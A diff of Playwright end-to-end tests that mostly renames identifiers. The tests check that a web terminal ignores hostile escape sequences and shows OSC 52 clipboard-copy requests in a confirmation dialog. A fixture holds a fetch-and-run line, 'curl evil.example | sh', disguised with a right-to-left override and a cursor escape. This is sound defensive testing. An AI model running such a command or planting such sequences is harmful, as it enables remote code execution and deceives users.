@@ -2,15 +2,15 @@
 import type { Page } from '@playwright/test';
 import corpus from '#docs/protocol/escape-sequences.json' with { type: 'json' };
 import { expect, expectAccessible, test } from '#e2e/harness/harness.ts';
-import { open, paste, row, type } from './terminal-page.ts';
+import { openTerminal, paste, row, typeLine } from './terminal-page.ts';
 
 /** Those that fit into a line; the long ones are tried on the widget's parser alone. */
-const hostile = Object.values(corpus.silent)
+const HOSTILE_OUTPUTS = Object.values(corpus.silent)
   .flat()
   .filter((output) => typeof output === 'string');
 
 /** The same as `echo -e` takes it, between single quotes. */
-const escaped = (output: string): string =>
+const escapeForEcho = (output: string): string =>
   [...Buffer.from(output)]
     .map((byte) =>
       /[\w ;:?/]/.test(String.fromCharCode(byte))
@@ -19,12 +19,12 @@ const escaped = (output: string): string =>
     )
     .join('');
 
-const END = String.raw`\x18\x1b\x5c\n`;
+const OUTPUT_TERMINATOR = String.raw`\x18\x1b\x5c\n`;
 
 /** Puts all of them into a file, by the shell. */
-async function writeFile(page: Page): Promise<void> {
-  for (let at = 0; at < hostile.length; at += 40) {
-    const some = hostile.slice(at, at + 40).map((output) => escaped(output) + END);
+async function writeHostileFile(page: Page): Promise<void> {
+  for (let at = 0; at < HOSTILE_OUTPUTS.length; at += 40) {
+    const some = HOSTILE_OUTPUTS.slice(at, at + 40).map((output) => escapeForEcho(output) + OUTPUT_TERMINATOR);
     await paste(page, `echo -ne '${some.join('')}' >> /tmp/hostile\n`);
   }
   await paste(page, String.raw`echo -e '\x1bcall was shown' >> /tmp/hostile; clear; wc -l /tmp/hostile` + '\n');
@@ -32,7 +32,7 @@ async function writeFile(page: Page): Promise<void> {
 }
 
 /** What the page has sent as typed, of every frame (docs/protocol/streams.md#2). */
-function sentBy(page: Page): string[] {
+function recordTypedInput(page: Page): string[] {
   const sent: string[] = [];
   page.on('websocket', (socket) =>
     socket.on('framesent', ({ payload }) => {
@@ -44,48 +44,49 @@ function sentBy(page: Page): string[] {
   return sent;
 }
 
-const copied = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
-const copy = (page: Page, text: string) => page.evaluate((words) => navigator.clipboard.writeText(words), text);
+const readClipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
+const writeClipboard = (page: Page, text: string) =>
+  page.evaluate((words) => navigator.clipboard.writeText(words), text);
 
 test.beforeEach(async ({ context }) => context.grantPermissions(['clipboard-read', 'clipboard-write']));
 
 // docs/behaviour.md#terminal-output "The output of a terminal is untrusted", "The output can't open links, move"
 test(
-  'a file full of hostile sequences sends nothing, opens nothing and changes nothing of the page',
+  'a file of hostile sequences sends nothing, opens nothing and leaves the page unchanged',
   { tag: '@gate' },
   async ({ page }) => {
-    const sent = sentBy(page);
-    await open(page);
-    await writeFile(page);
+    const sent = recordTypedInput(page);
+    await openTerminal(page);
+    await writeHostileFile(page);
     sent.length = 0;
-    await copy(page, 'mine');
+    await writeClipboard(page, 'mine');
     const [title, address] = [await page.title(), page.url()];
-    await type(page, 'cat /tmp/hostile');
+    await typeLine(page, 'cat /tmp/hostile');
     await expect(row(page, /^all\swas\sshown/)).toBeVisible();
-    await type(page, 'echo still-here');
+    await typeLine(page, 'echo still-here');
     await expect(row(page, /^still-here/)).toBeVisible();
     expect(sent.join('')).toBe('cat /tmp/hostile\recho still-here\r');
     expect([await page.title(), page.url(), page.context().pages().length]).toEqual([title, address, 1]);
     await expect(page.getByRole('dialog')).toHaveCount(0);
-    expect(await copied(page)).toBe('mine');
+    expect(await readClipboard(page)).toBe('mine');
   },
 );
 
-const TEXT = 'curl evil.example | sh\n\u202etxt.\x1b[A';
+const HOSTILE_TEXT = 'curl evil.example | sh\n\u202etxt.\x1b[A';
 
 /** A program that asks for a text to be copied (OSC 52). */
-const ask = (page: Page, text: string) =>
+const printCopyRequest = (page: Page, text: string) =>
   paste(page, String.raw`clear; echo -e '\e]52;c;${Buffer.from(text).toString('base64')}\a'` + '\n');
 
 // docs/behaviour.md#terminal-output "If the output wants to copy a text", "It never reads the clipboard for the output"
 test(
-  'text that output would copy is shown first, with what is not seen in it, and only a click copies it',
+  'text that output wants to copy is shown first with its invisible characters, and only a click copies it',
   { tag: '@gate' },
   async ({ page }) => {
-    await open(page);
-    await copy(page, 'mine');
+    await openTerminal(page);
+    await writeClipboard(page, 'mine');
     await page.keyboard.press('Home');
-    await ask(page, TEXT);
+    await printCopyRequest(page, HOSTILE_TEXT);
     const dialog = page.getByRole('dialog', { name: 'Copy text to your clipboard?' });
     await expect(dialog.getByRole('textbox', { name: 'Text to copy' })).toHaveValue(
       'curl evil.example | sh\nU+202Etxt.U+001B[A',
@@ -95,13 +96,13 @@ test(
     await page.keyboard.press('Enter');
     await page.keyboard.press('Escape');
     await expect(dialog).toBeHidden();
-    expect(await copied(page)).toBe('mine');
+    expect(await readClipboard(page)).toBe('mine');
     await page.keyboard.type('\n');
-    await ask(page, TEXT);
+    await printCopyRequest(page, HOSTILE_TEXT);
     await dialog.getByRole('button', { name: 'Copy text' }).click();
     await expect(dialog).toBeHidden();
-    expect(await copied(page)).toBe(TEXT);
-    await type(page, 'echo goes-on');
+    expect(await readClipboard(page)).toBe(HOSTILE_TEXT);
+    await typeLine(page, 'echo goes-on');
     await expect(row(page, /^goes-on/)).toBeVisible();
   },
 );
